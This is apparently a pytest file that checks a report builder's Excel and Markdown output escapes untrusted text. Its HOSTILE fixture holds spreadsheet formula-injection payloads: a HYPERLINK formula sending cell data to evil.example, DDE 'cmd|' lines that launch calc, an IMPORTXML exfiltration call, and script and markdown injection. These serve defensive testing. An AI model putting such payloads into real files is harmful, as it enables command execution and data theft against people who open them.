"""Text from assumptions stays text: never a formula, a link, markup or invalid XML."""
from __future__ import annotations

import openpyxl
import pytest
import yaml

from builder.commands.build import build
from builder.validation.loader import default_example, parse
from builder.render.summary import md_text

HOSTILE = {
    "company_en": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "segment_zh": "+cmd|' /C calc'!A0",
    "segment_en": "-2+3",
    "peer": "@SUM(1+1)*cmd|' /C calc'!A0",
    "source": "=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")",
    "thesis": "Growth | margin **bold** <script>alert(1)</script> [link](http://x) # not a heading",
    "risk": "control\x01chars\x1fhere & \"quotes\"",
    "broker": "Smith & Co",
}


@pytest.fixture(scope="module")
def hostile_build(tmp_path_factory):
    data = yaml.safe_load(default_example().read_text(encoding="utf-8"))
    data["company"]["name_en"] = HOSTILE["company_en"]
    seg = data["revenue"]["segments"][0]
    seg["name_zh"], seg["name_en"] = HOSTILE["segment_zh"], HOSTILE["segment_en"]
    seg["actuals"]["source"] = HOSTILE["source"]
    data["valuation"]["peers"][1]["name_en"] = HOSTILE["peer"]
    data["thesis"][0]["en"] = HOSTILE["thesis"]
    data["risks"][0]["en"] = HOSTILE["risk"]
    data["report"]["broker"]["en"] = HOSTILE["broker"]
    out = tmp_path_factory.mktemp("hostile")
    result = build(parse(data), out)
    return result, out


def all_strings(wb):
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                yield ws.title, c


def test_hostile_labels_are_plain_strings(hostile_build):
    _, out = hostile_build
    wb = openpyxl.load_workbook(out / "kingsoft_cloud.xlsx")
    found = {}
    for title, c in all_strings(wb):
        for key, text in HOSTILE.items():
            if isinstance(c.value, str) and text.split("\x01")[0] in c.value:
                found.setdefault(key, []).append((title, c))
    for key in ("segment_zh", "segment_en", "peer", "source", "thesis"):
        assert key in found, key
        for title, c in found[key]:
            assert c.data_type == "s", f"{key} at {title}!{c.coordinate} is {c.data_type}"
            assert c.hyperlink is None
    seg = next(c for t, c in found["segment_zh"] if c.value == HOSTILE["segment_zh"])
    assert seg.quotePrefix or seg.style_array.quotePrefix  # shown as text in Excel too
    # Formulas in the workbook are only our own: none contains the hostile text.
    for title, c in all_strings(wb):
        if c.data_type == "f":
            assert "cmd|" not in c.value and "HYPERLINK" not in c.value and "IMPORTXML" not in c.value


def test_control_characters_become_visible_symbols(hostile_build):
    _, out = hostile_build
    wb = openpyxl.load_workbook(out / "kingsoft_cloud.xlsx")
    risk = [c.value for _, c in all_strings(wb) if isinstance(c.value, str) and "control" in c.value]
    assert risk and all("\x01" not in v and "\u2401" in v and "\u241f" in v for v in risk)


def test_header_ampersand_is_escaped(hostile_build):
    _, out = hostile_build
    ws = openpyxl.load_workbook(out / "kingsoft_cloud.xlsx")["P&L"]
    assert ws.oddFooter.left.text.startswith("Smith && Co ")  # && is a literal & in Excel's footer codes


def test_markdown_renders_hostile_text_literally(hostile_build):
    _, out = hostile_build
    en = (out / "kingsoft_cloud.en.md").read_text(encoding="utf-8")
    assert "\\| margin \\*\\*bold\\*\\* \\<script\\>" in en
    assert "<script>" not in en
    assert "\\[link\\](http://x)" in en
    assert "\x01" not in en and "\u2401" in en
    # The peer table keeps its columns: the pipe inside a name is escaped.
    row = next(line for line in en.splitlines() if "SUM(1+1)" in line)
    assert row.count("|") - row.count("\\|") == 10


def test_md_text_collapses_newlines_so_a_table_row_stays_one_row():
    assert md_text("two\nlines | here") == "two lines \\| here"
